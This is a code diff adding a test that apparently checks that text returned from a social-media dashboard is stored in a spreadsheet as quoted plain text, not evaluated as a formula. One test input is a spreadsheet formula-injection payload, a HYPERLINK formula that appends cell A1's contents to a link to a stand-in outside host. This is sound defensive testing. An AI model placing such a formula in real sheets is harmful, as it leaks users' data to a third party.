@@ -255,6 +255,22 @@ test.each([
 	},
 );
 
+test.each([['=HYPERLINK("https://host.example?"&A1;"//a")&"!"'], ['+1 for rye'], ['-5 % on rye']])(
+	'a text of the dashboard is no formula in the sheet, and means itself when it comes back: %s',
+	async (text) => {
+		const options = { dashboardChanges: 'return' };
+		const given = row({ notes: 'Ask Ana' });
+		const { rows } = await runSheet([given], options);
+		const { postId, syncState } = rows[0] ?? {};
+		world.dashboard.edit(String(postId), { caption: text, notes: text });
+		const returned = await runSheet([{ ...given, postId, syncState }], options);
+		expect(returned.rows).toMatchObject([{ caption: `'${text}`, notes: `'${text}` }]);
+		const next = await runSheet([{ ...given, ...returned.rows[0] }], options);
+		expect(next.sent).toEqual([]);
+		expect(next.rows).toMatchObject([{ ok: true, postId }]);
+	},
+);
+
 test('the second post of a row that lost its IDs waits for review in every run', async () => {
 	await runSheet([rowOfTwo()]);
 	const edited = rowOfTwo({ 'TikTok Caption': 'Rye bread for everybody' });
